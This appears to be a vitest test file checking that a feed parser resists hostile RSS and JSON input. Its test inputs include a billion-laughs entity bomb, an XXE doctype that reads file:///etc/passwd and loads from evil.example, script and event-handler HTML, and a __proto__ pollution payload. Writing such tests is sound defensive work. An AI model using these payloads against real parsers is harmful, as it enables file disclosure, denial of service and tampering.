import { describe, expect, it } from "vitest";
import { ALL, headlinesOf, readText, rssOf, storiesOf } from "./feeds.testing.ts";

const one = "<item><title>One</title></item>";

describe("a hostile feed", () => {
  it("that defines entities out of entities has none of them expanded", () => {
    const lols = Array.from(
      { length: 9 },
      (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n};`.repeat(10)}">`,
    ).join("");
    const doctype = `<!DOCTYPE rss [<!ENTITY lol0 "lol">${lols}]>`;
    const item = "<item><title>One &lol9;</title><description>&lol9;</description></item>";
    const text = rssOf(item).replace("?>", `?>${doctype}`);
    expect(headlinesOf(text)).toEqual(["One &lol9;"]);
    expect(JSON.stringify(readText(text)).length).toBeLessThan(1000);
  });

  it("that names files of this machine as entities gets none of them", () => {
    const doctype = `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/"> %p;]>`;
    const text = rssOf("<item><title>One &x;</title></item>").replace("?>", `?>${doctype}`);
    expect(headlinesOf(text)).toEqual(["One &x;"]);
  });

  it("that nests twenty thousand deep is read to its end", () => {
    const deep = `${"<a>".repeat(20_000)}x${"</a>".repeat(20_000)}`;
    expect(headlinesOf(rssOf(`<item><title>One</title>${deep}</item>`, one))).toEqual([
      "One",
      "One",
    ]);
    expect(
      headlinesOf(rssOf(`<item><title>One</title><description>${deep}</description></item>`)),
    ).toEqual(["One"]);
    expect(headlinesOf(`${"<rss><channel>".repeat(10_000)}${one}`)).toEqual([]);
  });

  it("with an attribute of a megabyte is read", () => {
    const attribute = `x="${"a".repeat(1_000_000)}"`;
    expect(headlinesOf(rssOf(`<item ${attribute}><title>One</title></item>`))).toEqual(["One"]);
  });

  it.each([
    ["sections that open again and again", "<![CDATA[".repeat(50_000)],
    ["sections that never hold anything", "<![CDATA[]]>".repeat(50_000)],
    ["tags that never end", "<a ".repeat(200_000)],
    ["attributes that never end", `<a b="`.repeat(100_000)],
    ["comments that never end", "<!-- ".repeat(100_000)],
    ["declarations that never end", "<!x [".repeat(100_000)],
    ["closing tags of nothing", "</b>".repeat(100_000)],
    ["empty items", "<item>".repeat(5_000)],
    ["brackets in a name", `<item><author>${"(".repeat(300_000)}</author></item>`],
  ])("of %s behind its first story keeps that", (_what, junk) => {
    expect(headlinesOf(rssOf(one + junk))).toEqual(["One"]);
  });

  it("with markup in its titles shows it as text", () => {
    const title = "&lt;script&gt;alert(1)&lt;/script&gt;";
    const [story] = storiesOf(rssOf(`<item><title>${title}</title></item>`));
    expect(story?.headline).toBe("<script>alert(1)</script>");
  });

  it("runs nothing from its bodies", () => {
    const html = `<p onclick="x()">Hello<script>evil()</script><img src="javascript:x" onerror="x"><svg onload="x"/></p>`;
    const [story] = storiesOf(
      rssOf(`<item><title>One</title><description><![CDATA[${html}]]></description></item>`),
    );
    expect(story?.body).toEqual([{ type: "paragraph", spans: [{ text: "Hello" }] }]);
  });

  it("with ids and tags named after parts of every object does no harm", () => {
    const item = `<item><title>constructor</title><guid>__proto__</guid><category>__proto__</category><category>constructor</category><constructor>x</constructor></item>`;
    expect(storiesOf(rssOf(item))[0]).toMatchObject({
      headline: "constructor",
      tags: ["__proto__", "constructor"],
    });
    const json = ALL.JSON_FEED.replace(`"id":"1"`, `"__proto__":{"polluted":1},"id":"1"`);
    expect(headlinesOf(json)).toHaveLength(2);
    expect({}).not.toHaveProperty("polluted");
  });
});
